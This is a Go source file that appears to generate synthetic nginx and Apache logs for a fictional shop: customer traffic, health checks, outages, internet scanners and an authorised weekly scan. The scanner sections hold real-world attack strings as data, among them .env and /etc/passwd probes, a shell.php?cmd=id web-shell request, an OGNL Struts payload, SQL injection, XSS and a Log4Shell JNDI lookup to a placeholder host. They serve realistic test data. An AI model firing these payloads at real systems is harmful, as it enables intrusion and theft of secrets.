package replay

import (
	"fmt"
	"time"
)

// customers is how many people have an account of the shop.
const customers = 4000

// customer is somebody who shops: most from home, many from a telephone.
func (w *week) customer(d *day) (name, from, agent string) {
	n := d.rng.IntN(customers)
	from = fmt.Sprintf("100.%d.%d.%d", 112+n%8, n/256, n%256)
	agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
	if d.chance(0.55) {
		from = fmt.Sprintf("100.%d.%d.%d", 104+n%4, d.rng.IntN(256), 1+d.rng.IntN(254))
		agent = "Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1"
	}
	return fmt.Sprintf("c%06d", 100000+n), from, agent
}

// access is a day of one public web server: visitors, the company's checks and
// scanner, and what the internet tries.
func (h *linux) access(d *day) {
	w := h.week
	visits := w.visits
	if !d.workday() {
		visits = visits * 7 / 10
	}
	d.scattered(visits, 6.5, 24, func(t time.Time) {
		_, from, agent := w.customer(d)
		v := visit{from: from, method: "GET", path: page(d), status: 200, bytes: 800 + d.rng.IntN(60000), referer: "https://www.example.jp/", agent: agent}
		switch d.rng.IntN(40) {
		case 0:
			v.method, v.path, v.contentType, v.status = "POST", "/cart", "application/json", 201
		case 1:
			v.method, v.path, v.contentType, v.status = "POST", "/login", "application/x-www-form-urlencoded", 302
		case 2:
			v.status, v.path = 404, "/old/item/"+fmt.Sprint(d.rng.IntN(9000))
		}
		d.add(t, v.nginx(t, d.rng))
	})
	d.every(10*time.Minute, time.Duration(h.n)*13*time.Second, func(t time.Time) {
		d.add(t, visit{from: w.addressOf("mon-01"), method: "GET", path: "/healthz", status: 200, bytes: 2, agent: "check_http/v2.3"}.nginx(t, d.rng))
	})
	if r, ok := releaseOn(d.start); ok { // while the shop behind it starts again
		d.scattered(15, 15.03, 15.13, func(t time.Time) {
			_, from, agent := w.customer(d)
			d.add(t, visit{from: from, method: "GET", path: page(d), status: 502, bytes: 166, agent: agent, referer: "https://www.example.jp/"}.nginx(t, d.rng))
		})
		t := r.on(h.machine).Add(30 * time.Second)
		d.add(t, visit{from: w.addressOf("ci-01"), method: "GET", path: "/healthz?release=" + r.version, status: 200, bytes: 2, agent: "curl/8.14.1"}.nginx(t, d.rng))
	}
	h.strangers(d)
	h.ownScan(d)
}

// page is a page of the shop.
func page(d *day) string {
	form := pick(d.rng, []string{"/item/%d", "/item/%d", "/item/%d?color=blue", "/search?q=%%E6%%9B%%B8&page=%d", "/static/app.%d.js", "/api/cart?n=%d", "/rank/%d"})
	return fmt.Sprintf(form, 1+d.rng.IntN(9000))
}

// strangers is what the internet tries everywhere, and is refused.
func (h *linux) strangers(d *day) {
	paths := []string{
		"/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/xmlrpc.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/cgi-bin/luci",
		"/actuator/env", "/boaform/admin/formLogin", "/manager/html", "/solr/admin/info/system", "/index.php?s=/index/think/app/invokefunction", "/../../../../etc/passwd", "/shell.php?cmd=id",
	}
	for range 6 {
		from, t := stranger(d), d.within(0, 23)
		for range 8 + d.rng.IntN(8) {
			t = t.Add(time.Duration(300+d.rng.IntN(4000)) * time.Millisecond)
			v := visit{from: from, method: "GET", path: pick(d.rng, paths), status: 404, bytes: 153, agent: pick(d.rng, []string{"Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "Go-http-client/1.1", "curl/8.5.0"})}
			if v.path[1] == '.' && v.path[2] == '.' {
				v.status = 400
			}
			d.add(t, v.nginx(t, d.rng))
		}
	}
	if d.chance(0.5) { // S2-045 is still tried; nothing here is Struts, and nginx is told to refuse such content types
		t := d.within(0, 24)
		d.add(t, visit{from: stranger(d), method: "GET", path: "/login.action", status: 400, bytes: 157, agent: "Mozilla/5.0",
			contentType: `%{(#x='multipart/form-data').(#d=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}`}.nginx(t, d.rng))
	}
}

// ownScan is the company's own scan on Saturday, from inside and, by contract,
// from one address outside.
func (h *linux) ownScan(d *day) {
	begin, ok := scanned(d.start)
	if !ok {
		return
	}
	tries := []string{
		"/?id=1%27%20OR%20%271%27=%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/../../etc/passwd", "/item/1%20UNION%20SELECT%20null,null--", "/.env", "/admin", "/backup.zip",
		"/?x=${jndi:ldap://scan.example.com/a}", "/login.action?redirect:%25%7B%28%23a%3D1%29%7D", "/server-status",
	}
	for i, from := range []string{h.week.addressOf("scan-01"), authorised} {
		t := begin.Add(time.Duration(i) * 90 * time.Minute)
		for range 120 {
			t = t.Add(time.Duration(100+d.rng.IntN(900)) * time.Millisecond)
			path := pick(d.rng, tries)
			status := 404
			if path[1] == '?' || path[1] == 's' || path[1] == '.' {
				status = pick(d.rng, []int{400, 403})
			}
			d.add(t, visit{from: from, method: "GET", path: path, status: status, bytes: 153, agent: "ExampleScan/4.2 (authorised; security@example.jp)"}.nginx(t, d.rng))
		}
	}
}

// webErrors is a day of nginx's error log.
func (h *linux) webErrors(d *day) {
	problem := func(t time.Time, what, path string) {
		_, from, _ := h.week.customer(d)
		d.add(t, nginxProblem(t, d.rng, "error", what, visit{from: from, method: "GET", path: path}))
	}
	d.scattered(4+d.rng.IntN(4), 0, 24, func(t time.Time) {
		problem(t, `open() "/var/www/html/favicon.png" failed (2: No such file or directory)`, "/favicon.png")
	})
	d.scattered(3, 0, 24, func(t time.Time) {
		d.add(t, fmt.Sprintf("%s [notice] 811#811: signal process started", t.Format("2006/01/02 15:04:05")))
	})
	if _, ok := releaseOn(d.start); ok {
		d.scattered(15, 15.03, 15.13, func(t time.Time) {
			problem(t, "connect() failed (111: Connection refused) while connecting to upstream", page(d))
		})
	}
	from, to := trouble()
	on(d, from, func(t time.Time) {
		for ; t.Before(to); t = t.Add(40 * time.Second) {
			problem(t, "upstream timed out (110: Connection timed out) while reading response header from upstream", "/api/cart?n=1")
		}
	})
}

// wiki is a day of the intranet's wiki on Apache, behind basic authentication.
func (h *linux) wiki(d *day) {
	for _, e := range h.week.staff {
		if !h.week.working(e, d.start) || !d.chance(0.6) {
			continue
		}
		d.scattered(2+d.rng.IntN(4), 9.5, 18, func(t time.Time) {
			from := e.tunnel()
			if h.week.place(e, t, false) == officeOf(e) {
				from = e.lan()
			}
			h.week.used(e, t, false, func(string) {
				d.add(t, visit{from: from, user: e.name, method: "GET", path: fmt.Sprintf("/wiki/page/%d", d.rng.IntN(1200)), status: 200, bytes: 2000 + d.rng.IntN(30000), agent: e.laptop, referer: "https://wiki.example.jp/"}.common(t))
			})
		})
	}
	d.every(10*time.Minute, 4*time.Minute, func(t time.Time) {
		d.add(t, visit{from: h.week.addressOf("mon-01"), method: "GET", path: "/healthz", status: 200, bytes: 2, agent: "check_http/v2.3"}.common(t))
	})
}

// wikiErrors is a day of Apache's error log: a password mistyped now and then.
func (h *linux) wikiErrors(d *day) {
	stamp := func(t time.Time) string { return t.Format("Mon Jan 02 15:04:05.000000 2006") }
	t := d.start.Add(5 * time.Minute)
	d.add(t, "["+stamp(t)+"] [mpm_event:notice] [pid 702:tid 140245] AH00489: Apache/2.4.65 (Debian) configured -- resuming normal operations")
	if !d.workday() {
		return
	}
	d.scattered(d.rng.IntN(4), 9.5, 18, func(t time.Time) {
		e := h.week.staff[d.rng.IntN(newcomers)]
		d.add(t, fmt.Sprintf(`[%s] [auth_basic:error] [pid 702:tid 140245] [client %s:%d] AH01617: user %s: authentication failure for "/wiki/": Password Mismatch`, stamp(t), e.lan(), 1024+d.rng.IntN(60000), e.name))
	})
}
